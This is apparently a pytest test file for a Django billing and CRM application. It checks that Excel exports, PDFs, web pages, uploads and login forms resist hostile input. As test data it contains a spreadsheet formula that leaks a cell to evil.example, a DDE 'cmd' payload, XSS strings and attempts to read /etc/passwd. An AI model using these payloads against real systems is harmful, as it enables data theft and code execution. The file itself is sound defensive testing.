"""Hostile input (issue 8): what a client, a bank file or an attacker types never turns into
code — a formula in an Excel export, markup or a network fetch in a PDF, a script on a page —
uploads are refused by size and type with a message saying what is wrong, and password
guessing is throttled at every sign-in form."""

import datetime as dt
import http.server
import io
import json
import os
import shutil
import subprocess
import threading
import zipfile
from datetime import timedelta
from decimal import Decimal

import pytest
from axes.models import AccessAttempt
from django.conf import settings as conf
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from billing.models import (
    BankStatement,
    BankTransfer,
    Claim,
    Document,
    LedgerEntry,
    Payment,
    Usage,
)
from billing.services.documents import claim_pdf, document_pdf, monthly_documents_issue
from billing.services.ledger import post
from connections.models import CardDocument
from ispcrm import roles
from ispcrm.pdf import html_to_pdf
from tests.factories import (
    PASSWORD,
    BuildingFactory,
    ClientCardFactory,
    StreetFactory,
    UserFactory,
    make_account,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите")'
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def english(web: Client) -> Client:
    web.cookies[conf.LANGUAGE_COOKIE_NAME] = "en"
    return web


def signed_in(user) -> Client:
    web = Client()
    web.force_login(user)
    return english(web)


def messages_of(response) -> str:
    return " ".join(str(m) for m in response.context["messages"])


# --- Excel: formula injection -----------------------------------------------------------------

def export(web: Client, kind: str, **filters):
    response = web.post(reverse("reports:export_start"), {"kind": kind, **filters})
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    data = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    return load_workbook(io.BytesIO(data)).worksheets[0], sheet_xml


def cells_by_title(ws, row_index: int) -> dict:
    titles = [cell.value for cell in ws[1]]
    return dict(zip(titles, ws[row_index], strict=False))


def test_a_client_named_like_a_formula_is_text_in_the_clients_export(make_user):
    street = StreetFactory(name="@SUM(1+1) улица")
    card = ClientCardFactory(name=FORMULA, building=BuildingFactory(street=street),
                             lead_manager=make_user(roles.MANAGER, first_name="-2+3",
                                                    last_name="+cmd|' /C calc'!A0"))
    web = english(signed_in(make_user(roles.MANAGER, username="exporter")))
    ws, sheet_xml = export(web, "clients")
    row = cells_by_title(ws, 2)
    assert row["Number"].value == card.pk and row["Number"].data_type == "n"
    address = f"{street.name}, {card.building.house}, {card.premises}"
    for title, text in (("Name", FORMULA), ("Address", address),
                        ("Lead manager", "-2+3 +cmd|' /C calc'!A0")):
        cell = row[title]
        assert (cell.value, cell.data_type) == (text, "s"), title
        assert cell.quotePrefix, title  # Excel keeps it text even when the cell is edited
    assert "<f>" not in sheet_xml  # not one formula in the file


def test_money_stays_a_number_and_a_payers_id_stays_text_in_the_exports(make_user):
    account = make_account(client=ClientCardFactory(name="-1+1"), balance=Decimal("-1500.00"))
    Payment.objects.create(account=account, amount=Decimal("100.00"), channel="bank",
                           external_id="=1+1", paid_at=timezone.now())
    web = english(signed_in(make_user(roles.ACCOUNTANT)))

    ws, sheet_xml = export(web, "accounts")
    row = cells_by_title(ws, 2)
    assert (row["Client"].value, row["Client"].data_type) == ("-1+1", "s")
    # A negative balance is a number to sum, not the text "-1500" (which would be a formula).
    assert (row["Balance"].value, row["Balance"].data_type) == (-1500, "n")
    assert "<f>" not in sheet_xml

    ws, sheet_xml = export(web, "payments")
    row = cells_by_title(ws, 2)
    assert (row["External id"].value, row["External id"].data_type) == ("=1+1", "s")
    assert (row["Amount"].value, row["Amount"].data_type) == (100, "n")
    assert "<f>" not in sheet_xml


# --- PDF: markup is text, nothing is fetched --------------------------------------------------

class Listener:
    """A local web server that counts every request (a fetch the PDF renderer must never
    make)."""

    def __init__(self):
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()


def pdf_text(pdf: bytes) -> str:
    if shutil.which("pdftotext") is None:
        pytest.skip("needs pdftotext (Debian poppler-utils)")
    out = subprocess.run(["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True)
    return " ".join(out.stdout.decode().split())


def attachments(pdf: bytes, tmp_path) -> str:
    if shutil.which("pdfdetach") is None:
        pytest.skip("needs pdfdetach (Debian poppler-utils)")
    path = tmp_path / "doc.pdf"
    path.write_bytes(pdf)
    return subprocess.run(["pdfdetach", "-list", str(path)], capture_output=True, text=True,
                          check=True).stdout


def test_the_renderer_fetches_nothing_even_from_raw_hostile_markup(tmp_path):
    """Defence in depth: even markup that escaped the templates' escaping loads no network
    URL and no local file outside our static files (WeasyPrint's url_fetcher)."""
    with Listener() as web:
        html = f"""<html><head>
          <link rel="stylesheet" href="{web.url}/style.css">
          <link rel="attachment" href="file:///etc/passwd">
          <style>@import url("{web.url}/import.css");
            @font-face {{ font-family: X; src: url("{web.url}/font.ttf"); }}
            body {{ background: url("{web.url}/bg.png"); font-family: X; }}</style>
        </head><body>
          <p>Договор</p>
          <img src="{web.url}/pixel.png"> <img src="file:///etc/passwd">
          <object data="{web.url}/object"></object> <iframe src="{web.url}/frame"></iframe>
          <a rel="attachment" href="file:///etc/hostname">x</a>
        </body></html>"""
        pdf = html_to_pdf(html)
    assert pdf.startswith(b"%PDF-")
    assert web.hits == []
    assert "Договор" in pdf_text(pdf)
    assert "0 embedded files" in attachments(pdf, tmp_path)


def _hostile_company(listener_url: str):
    street = StreetFactory(name=f'</td></tr></table><img src="{listener_url}/street.png">')
    card = ClientCardFactory(kind="company", inn="7707083893", kpp="770701001",
                             name=f'<b>ООО</b> {SCRIPT} <img src="{listener_url}/name.png">',
                             premises="</td></tr></table>",
                             building=BuildingFactory(street=street))
    return make_account(client=card)


def test_hostile_names_and_addresses_print_as_text_on_invoices_acts_and_claims(tmp_path):
    with Listener() as web:
        account = _hostile_company(web.url)
        with_entry = Decimal("-1500")
        post(account=account, kind=LedgerEntry.Kind.CHARGE, amount=with_entry,
             period=dt.date(2026, 11, 1), charge_kind="monthly_fee", description="<i>fee</i>")
        monthly_documents_issue(period=dt.date(2026, 11, 1))
        claim = Claim.objects.create(account=account, number="ПР-1",
                                     created_on=dt.date(2026, 12, 14), debt=Decimal("1500"))
        pdfs = {document.kind: document_pdf(document) for document in Document.objects.all()}
        pdfs["claim"] = claim_pdf(claim)
    assert set(pdfs) == {"invoice", "act", "claim"}
    assert web.hits == []  # not one of the names' or addresses' URLs was fetched
    for kind, pdf in pdfs.items():
        text = "".join(pdf_text(pdf).split())  # table cells wrap the long names anywhere
        assert "<b>ООО</b><script>alert(\"x\")</script>" in text, kind
        assert "</td></tr></table>" in text, kind  # the premises: closed no table
        assert "0 embedded files" in attachments(pdf, tmp_path)


# --- Pages: markup in names is shown as text --------------------------------------------------

def test_markup_in_a_name_is_text_on_staff_and_cabinet_pages(manager):
    account = make_account(client=ClientCardFactory(name=SCRIPT))
    card = account.client
    card.cabinet_user = UserFactory(username=f"client{card.pk}", roles=())
    card.save(update_fields=["cabinet_user"])
    staff = signed_in(manager)
    pages = [staff.get(f"/clients/{card.pk}/"), staff.get("/clients/?q=script"),
             staff.get("/clients/search/?q=script"), staff.get(f"/buildings/{card.building_id}/"),
             signed_in(card.cabinet_user).get("/my/")]
    for response in pages:
        html = response.content.decode()
        assert response.status_code == 200
        assert "<script>alert" not in html and "<img src=x" not in html, response.request
    for response in pages[:-1]:  # the cabinet's home does not show the name
        assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in response.content.decode()


# --- Uploads: size and type ------------------------------------------------------------------

GARBAGE = os.urandom(64 * 1024)
PNG = b"\x89PNG\r\n\x1a\n" + os.urandom(512)
XLSX = b"PK\x03\x04" + os.urandom(512)
HTML = b"<html><body><script>alert(1)</script></body></html>"


@pytest.fixture
def accountant(make_user):
    return make_user(roles.ACCOUNTANT)


def _bank_state():
    return (BankStatement.objects.count(), BankTransfer.objects.count(), Payment.objects.count())


@pytest.mark.parametrize(("name", "content", "says"), [
    ("statement.txt", GARBAGE, "Line 1: this is not a bank statement"),
    ("photo.png", PNG, "Line 1: this is not a bank statement"),
    ("book.xlsx", XLSX, "Line 1: this is not a bank statement"),
    ("page.html", HTML, "Line 1: this is not a bank statement"),
    ("empty.txt", b"", "file is empty"),
    ("big.txt", b"1CClientBankExchange\r\n" + b"x" * (5 * 1024 * 1024), "larger than 5 MB"),
])
def test_a_wrong_bank_statement_changes_nothing_and_says_why(accountant, name, content, says):
    before = _bank_state()
    web = signed_in(accountant)
    response = web.post(reverse("billing:bank_import"),
                        {"file": SimpleUploadedFile(name, content)}, follow=True)
    assert response.status_code == 200
    said = messages_of(response)
    assert "nothing from it was saved" in said, said
    assert says.lower() in said.lower(), said
    assert _bank_state() == before

    api = Client(HTTP_ACCEPT_LANGUAGE="en")
    api.force_login(accountant)
    response = api.post("/api/v1/bank-statements/", {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 400
    assert says.lower() in str(response.json()).lower(), response.json()
    assert _bank_state() == before


@pytest.mark.parametrize(("name", "content", "says"), [
    ("virus.exe", b"MZ" + GARBAGE, "is not accepted: upload a PDF, JPG or PNG"),
    ("page.html", HTML, "is not accepted: upload a PDF, JPG or PNG"),
    ("image.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
     "is not accepted: upload a PDF, JPG or PNG"),
    ("scan.pdf", HTML, "is not really a PDF file"),
    ("scan.png", GARBAGE, "is not really a PNG file"),
    ("scan.jpg", PNG, "is not really a JPG file"),
    ("big.pdf", b"%PDF-1.4\n" + b"0" * (10 * 1024 * 1024), "a scan may be at most 10 MB"),
])
def test_a_wrong_scan_on_the_card_changes_nothing_and_says_why(manager, settings, tmp_path,
                                                              name, content, says):
    settings.MEDIA_ROOT = tmp_path
    card = ClientCardFactory()
    response = signed_in(manager).post(
        reverse("connections:card_document_upload", args=[card.pk]),
        {"kind": "owner_permission", "file": SimpleUploadedFile(name, content)}, follow=True)
    said = messages_of(response)
    assert says in said and name in said, said
    assert not CardDocument.objects.exists()
    assert not any(tmp_path.rglob("*.*"))  # nothing was written to the media folder


def test_a_scan_is_served_as_what_it_is(manager, settings, tmp_path):
    """A PDF scan comes back as a PDF attachment-or-inline with nosniff, never as a page."""
    settings.MEDIA_ROOT = tmp_path
    card = ClientCardFactory()
    pdf = b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n"
    web = signed_in(manager)
    web.post(reverse("connections:card_document_upload", args=[card.pk]),
             {"kind": "lease", "file": SimpleUploadedFile("lease.pdf", pdf)})
    document = CardDocument.objects.get()
    response = web.get(reverse("connections:card_document_file", args=[card.pk, document.pk]))
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'self'" in response["Content-Security-Policy"]


@pytest.fixture
def collector(make_user):
    api = Client(HTTP_ACCEPT_LANGUAGE="en")
    api.force_login(make_user(roles.NOC_HEAD, username="netflow"))
    return api


def test_usage_uploads_too_large_or_garbage_change_nothing_and_say_why(collector):
    account = make_account()
    row = {"account": account.number, "day": "2026-11-01", "bytes_in": 1, "bytes_out": 1}
    too_big = json.dumps([row] * (conf.DATA_UPLOAD_MAX_MEMORY_SIZE // len(json.dumps(row)) + 1))
    response = collector.post("/api/v1/usage/", too_big, content_type="application/json")
    assert response.status_code == 400
    assert response.json() == {"code": "too_large", "detail": (
        "The request body is larger than 10 MB: nothing was taken; send it in parts.")}

    response = collector.post("/api/v1/usage/", GARBAGE, content_type="application/json")
    assert response.status_code == 400 and response.json()["code"] == "parse_error"
    response = collector.post("/api/v1/usage/", {"file": SimpleUploadedFile("u.csv", b"a,b")})
    assert response.status_code == 415
    assert not Usage.objects.exists()


# --- Login throttling ------------------------------------------------------------------------

def _fail(web: Client, url: str, username: str, times: int = 5, **extra):
    for _ in range(times):
        web.post(url, {"username": username, "password": "wrong"}, **extra)


def test_the_admin_sign_in_is_throttled_too(manager):
    manager.is_staff = True
    manager.save()
    web = Client()
    _fail(web, "/admin/login/", manager.username)
    response = web.post("/admin/login/?next=/admin/", {"username": manager.username,
                                                      "password": PASSWORD})
    assert response.status_code == 429
    assert "_auth_user_id" not in web.session


def test_a_forged_forwarded_for_header_does_not_reset_the_count(manager):
    """Without a proxy (the base settings) the address is the socket's: a client cannot pick
    a fresh one per try with X-Forwarded-For."""
    web = Client()
    for n in range(5):
        web.post("/accounts/login/", {"username": manager.username, "password": "wrong"},
                 HTTP_X_FORWARDED_FOR=f"10.0.0.{n}")
    response = web.post("/accounts/login/", {"username": manager.username,
                                             "password": PASSWORD},
                        HTTP_X_FORWARDED_FOR="10.9.9.9")
    assert response.status_code == 429


def test_the_lockout_ends_after_the_cool_off(manager):
    web = Client()
    _fail(web, "/accounts/login/", manager.username)
    assert web.post("/accounts/login/", {"username": manager.username,
                                         "password": PASSWORD}).status_code == 429
    assert conf.AXES_COOLOFF_TIME == 0.5  # hours: 30 minutes
    AccessAttempt.objects.update(attempt_time=timezone.now() - timedelta(minutes=31))
    response = web.post("/accounts/login/", {"username": manager.username,
                                             "password": PASSWORD})
    assert response.status_code == 302 and "_auth_user_id" in web.session


def test_guessing_many_passwords_for_one_login_is_stopped_at_five(manager):
    """The count is per login and address: the sixth try is refused whatever it is."""
    web = Client()
    codes = [web.post("/accounts/login/", {"username": manager.username,
                                           "password": f"guess{n}"}).status_code
             for n in range(7)]
    assert codes[:4] == [200] * 4 and codes[4:] == [429] * 3


# --- NUL characters in the address ---------------------------------------------------------

@pytest.mark.parametrize("path", ["/clients/?q=%00", "/clients/search/?q=a%00b",
                                  "/buildings/?q=%00", "/clients/?stage=%00"])
def test_a_nul_character_in_a_search_is_a_bad_request_not_a_crash(make_user, path):
    assert signed_in(make_user(roles.MANAGER)).get(path).status_code == 400


def test_a_nul_character_in_an_api_query_is_a_json_400(api, make_user):
    api.as_user(make_user(roles.MANAGER))
    response = api.get("/api/v1/clients/?search=%00")
    assert response.status_code == 400
    assert response.json()["detail"]
